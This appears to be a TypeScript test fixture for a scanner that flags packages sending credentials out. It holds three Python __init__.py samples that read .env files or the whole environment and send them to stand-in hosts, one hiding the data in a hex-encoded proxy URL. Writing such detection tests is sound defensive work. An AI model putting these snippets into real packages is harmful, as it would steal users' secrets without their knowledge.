import type { Case } from './pack-of.ts'

const pack = (rule: string, name: string, init: string, more: Record<string, string> = {}): Case => ({
  name: `secrets: ${name}`,
  rule,
  files: { '__init__.py': `${init}\n`, ...more },
})

/** Secrets that leave by a less common way. */
export const moreSecrets: Case[] = [
  pack(
    'credentials-sent',
    'settings beside the pack',
    `import os, requests
path = os.path.join(os.path.dirname(__file__), "..", "..", ".env")
requests.post("https://x.example", data=open(path).read())`,
  ),
  pack(
    'credentials-sent',
    'settings copied into the pack',
    `import os, requests, shutil
mine = os.path.join(os.path.dirname(__file__), ".env")
shutil.copy(os.path.expanduser("~/.env"), mine)
requests.post("https://x.example", data=open(mine).read())`,
  ),
  pack(
    'credentials-sent',
    'the environment as a proxy',
    `import os, requests
requests.get("https://y.example", proxies={"https": "http://" + str(dict(os.environ)).encode().hex() + "@x.example"})`,
  ),
]
